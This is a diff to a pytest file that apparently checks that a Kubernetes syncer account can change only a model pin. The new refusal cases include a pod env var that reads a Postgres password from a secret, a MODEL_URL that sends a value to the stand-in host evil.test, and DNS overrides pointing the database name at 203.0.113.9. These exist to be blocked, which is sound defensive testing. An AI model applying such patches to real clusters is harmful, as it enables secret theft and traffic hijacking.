@@ -37,6 +37,13 @@ def test_the_syncer_may_change_the_pin(apps):
 
 CONTAINER = {"name": "api", "image": "attacker/api:latest"}
 FETCH = "fetch-model"
+OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}
+SECRET_URL = {
+    "name": "MODEL_URL",
+    "value": None,
+    "valueFrom": {"secretKeyRef": {"name": "digits-postgres", "key": "password"}},
+}
+EXPANDED_URL = {"name": "MODEL_URL", "value": "https://evil.test/?p=$(MODEL_SHA256)"}
 
 
 @pytest.mark.parametrize(
@@ -50,9 +57,18 @@ FETCH = "fetch-model"
         (_template({"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}), "volumes"),
         (_template({"serviceAccountName": "digits-syncer"}), "service account"),
         ({"spec": {"replicas": 0}}, "replicas"),
+        ({"spec": {"progressDeadlineSeconds": 99999}}, "the Deployment's"),
+        ({"metadata": {"ownerReferences": [OWNER]}}, "the Deployment's"),
+        (_template({"hostAliases": [{"ip": "203.0.113.9", "hostnames": ["digits-postgres"]}]}), "DNS"),
+        (_template({"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.9"]}}), "DNS"),
+        (_template({"initContainers": [{"name": FETCH, "env": [SECRET_URL]}]}), "one plain value each"),
+        (_template({"initContainers": [{"name": FETCH, "env": [EXPANDED_URL]}]}), "one plain value each"),
         (_template(annotations={"kubectl.kubernetes.io/restartedAt": "now"}), "annotations"),
     ],
-    ids=["image", "command", "init-image", "init-args", "init-env", "volume", "account", "replicas", "annotation"],
+    ids=[
+        "image", "command", "init-image", "init-args", "init-env", "volume", "account", "replicas", "deadline",
+        "owner", "host-alias", "dns", "secret-in-pin", "expansion-in-pin", "annotation",
+    ],
 )  # fmt: skip
 def test_the_syncer_may_change_nothing_else(apps, body, refusal):
     with pytest.raises(client.ApiException) as refused:
